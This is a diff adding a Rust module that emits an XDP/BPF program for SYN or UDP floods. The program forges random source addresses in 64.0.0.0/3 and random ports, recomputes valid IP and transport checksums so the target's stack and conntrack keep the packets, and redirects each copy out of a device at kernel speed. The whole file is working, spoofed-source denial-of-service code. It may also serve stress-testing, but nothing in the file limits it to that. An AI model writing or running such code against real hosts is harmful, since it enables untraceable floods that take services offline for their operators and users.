@@ -1,0 +1,177 @@
+//! The XDP program of a flood, as BPF instructions.
+//!
+//! It is too small to be worth an object of its own: two random numbers, four stores, two checksums, one redirection.
+//! The checksums must be right, or the host's stack and conntrack would throw the frames away before they cost them
+//! anything.
+
+use super::FloodKind;
+
+/// Offsets in an Ethernet frame with an IPv4 header of 20 bytes.
+const IP_HEADER: usize = 14;
+pub(super) const IP_CHECKSUM: usize = 24;
+const IP_SOURCE: usize = 26;
+const TRANSPORT_HEADER: usize = 34;
+const PORTS: usize = 34;
+
+pub(super) const fn transport_checksum(kind: FloodKind) -> usize {
+    match kind {
+        FloodKind::Syn { .. } => 50,
+        FloodKind::Udp => 40,
+    }
+}
+
+/// One instruction (`struct bpf_insn` of `linux/bpf.h`).
+#[derive(Clone, Copy, Debug, bytemuck::Pod, bytemuck::Zeroable)]
+#[repr(C)]
+pub(super) struct Instruction {
+    code: u8,
+    /// Destination register in the low half, source register in the high one.
+    registers: u8,
+    offset: i16,
+    immediate: i32,
+}
+
+/// The kernel's names of operations: `BPF_LDX | BPF_W | BPF_MEM` and so on.
+mod code {
+    pub(super) const LOAD_WORD: u8 = 0x61;
+    pub(super) const STORE_WORD: u8 = 0x63;
+    pub(super) const STORE_HALF: u8 = 0x6b;
+    pub(super) const MOVE: u8 = 0xbf;
+    pub(super) const MOVE_IMMEDIATE: u8 = 0xb7;
+    pub(super) const ADD: u8 = 0x0f;
+    pub(super) const ADD_IMMEDIATE: u8 = 0x07;
+    pub(super) const AND_IMMEDIATE: u8 = 0x57;
+    pub(super) const OR_IMMEDIATE: u8 = 0x47;
+    pub(super) const XOR_IMMEDIATE: u8 = 0xa7;
+    pub(super) const SHIFT_RIGHT_IMMEDIATE: u8 = 0x77;
+    pub(super) const JUMP_IF_GREATER: u8 = 0x2d;
+    pub(super) const CALL: u8 = 0x85;
+    pub(super) const EXIT: u8 = 0x95;
+}
+
+/// Numbers of helpers.
+const GET_PRANDOM_U32: i32 = 7;
+const REDIRECT: i32 = 23;
+
+const XDP_DROP: i32 = 1;
+
+/// Registers: 0 holds results, 1 to 5 are arguments and lost in calls, 6 to 9 survive them.
+const RESULT: u8 = 0;
+const CONTEXT: u8 = 1;
+const FRAME: u8 = 6;
+const SOURCE: u8 = 7;
+const FORGED_PORTS: u8 = 8;
+
+/// The program for copies of `frame`, whose forged fields and checksums are zero.
+pub(super) fn forge_and_redirect(frame: &[u8], kind: FloodKind, device: u32) -> Vec<Instruction> {
+    let checksum_over_header = sum(&frame[IP_HEADER..TRANSPORT_HEADER]);
+    let checksum_over_transport = sum(&frame[TRANSPORT_HEADER..]) + pseudo_header(frame);
+    let store_ports = match kind {
+        FloodKind::Syn { .. } => code::STORE_HALF,
+        FloodKind::Udp => code::STORE_WORD,
+    };
+    let [r1, r2, r3] = [1, 2, 3];
+
+    let mut body = vec![
+        // One of the addresses 64.0.0.0/3: the first octet is the lowest byte.
+        call(GET_PRANDOM_U32),
+        register(code::MOVE, SOURCE, RESULT),
+        immediate(code::AND_IMMEDIATE, SOURCE, !0xe0),
+        immediate(code::OR_IMMEDIATE, SOURCE, 0x40),
+        store(code::STORE_WORD, IP_SOURCE, SOURCE),
+        // Source port in the low half, destination port in the high one, both with the highest bit.
+        call(GET_PRANDOM_U32),
+        register(code::MOVE, FORGED_PORTS, RESULT),
+        immediate(code::OR_IMMEDIATE, FORGED_PORTS, 0x0080_0080),
+    ];
+    if let FloodKind::Syn { .. } = kind {
+        body.push(immediate(code::AND_IMMEDIATE, FORGED_PORTS, 0xffff));
+    }
+    body.push(store(store_ports, PORTS, FORGED_PORTS));
+    body.extend(add_halves(r1, SOURCE, r2));
+    body.push(register(code::MOVE, r3, r1));
+    body.push(immediate(code::ADD_IMMEDIATE, r3, checksum_over_header));
+    body.extend(fold(r3, r2));
+    body.push(store(code::STORE_HALF, IP_CHECKSUM, r3));
+    body.extend(add_halves(r3, FORGED_PORTS, r2));
+    body.push(register(code::ADD, r3, r1));
+    body.push(immediate(code::ADD_IMMEDIATE, r3, checksum_over_transport));
+    body.extend(fold(r3, r2));
+    body.push(store(code::STORE_HALF, transport_checksum(kind), r3));
+    body.extend([
+        immediate(code::MOVE_IMMEDIATE, r1, device.cast_signed()),
+        immediate(code::MOVE_IMMEDIATE, r2, 0),
+        call(REDIRECT),
+        exit(),
+    ]);
+
+    let length = i32::try_from(frame.len()).expect("a frame is short");
+    let over_body = i16::try_from(body.len()).expect("the program is short");
+    let mut program = vec![
+        // `data` and `data_end` of `struct xdp_md`.
+        Instruction { offset: 0, ..register(code::LOAD_WORD, FRAME, CONTEXT) },
+        Instruction { offset: 4, ..register(code::LOAD_WORD, r2, CONTEXT) },
+        register(code::MOVE, r3, FRAME),
+        immediate(code::ADD_IMMEDIATE, r3, length),
+        Instruction { offset: over_body, ..register(code::JUMP_IF_GREATER, r3, r2) },
+    ];
+    program.extend(body);
+    program.extend([immediate(code::MOVE_IMMEDIATE, RESULT, XDP_DROP), exit()]);
+    program
+}
+
+/// `target` = the two halves of `of`, added.
+fn add_halves(target: u8, of: u8, scratch: u8) -> [Instruction; 5] {
+    [
+        register(code::MOVE, target, of),
+        immediate(code::AND_IMMEDIATE, target, 0xffff),
+        register(code::MOVE, scratch, of),
+        immediate(code::SHIFT_RIGHT_IMMEDIATE, scratch, 16),
+        register(code::ADD, target, scratch),
+    ]
+}
+
+/// Makes a checksum of a sum of 16-bit words (RFC 1071).
+fn fold(sum: u8, scratch: u8) -> Vec<Instruction> {
+    let carry = [
+        register(code::MOVE, scratch, sum),
+        immediate(code::SHIFT_RIGHT_IMMEDIATE, scratch, 16),
+        immediate(code::AND_IMMEDIATE, sum, 0xffff),
+        register(code::ADD, sum, scratch),
+    ];
+    [&carry[..], &carry[..], &[immediate(code::XOR_IMMEDIATE, sum, 0xffff)]].concat()
+}
+
+/// Sum of 16-bit words in the order of the machine: a ones' complement sum does not mind (RFC 1071 §2).
+fn sum(bytes: &[u8]) -> i32 {
+    assert!(bytes.len().is_multiple_of(2), "frames of floods have an even length");
+    bytes.chunks_exact(2).map(|word| i32::from(u16::from_ne_bytes([word[0], word[1]]))).sum()
+}
+
+/// What transport checksums cover of the IP header, but for the source, which is forged.
+fn pseudo_header(frame: &[u8]) -> i32 {
+    let length = u16::try_from(frame.len() - TRANSPORT_HEADER).expect("a frame is short");
+    let protocol = frame[IP_HEADER + 9];
+    sum(&frame[IP_HEADER + 16..TRANSPORT_HEADER]) + sum(&[0, protocol]) + sum(&length.to_be_bytes())
+}
+
+const fn register(code: u8, target: u8, source: u8) -> Instruction {
+    Instruction { code, registers: source << 4 | target, offset: 0, immediate: 0 }
+}
+
+const fn immediate(code: u8, target: u8, immediate: i32) -> Instruction {
+    Instruction { code, registers: target, offset: 0, immediate }
+}
+
+fn store(code: u8, at: usize, source: u8) -> Instruction {
+    let offset = i16::try_from(at).expect("a frame is short");
+    Instruction { offset, ..register(code, FRAME, source) }
+}
+
+const fn call(helper: i32) -> Instruction {
+    immediate(code::CALL, 0, helper)
+}
+
+const fn exit() -> Instruction {
+    immediate(code::EXIT, 0, 0)
+}
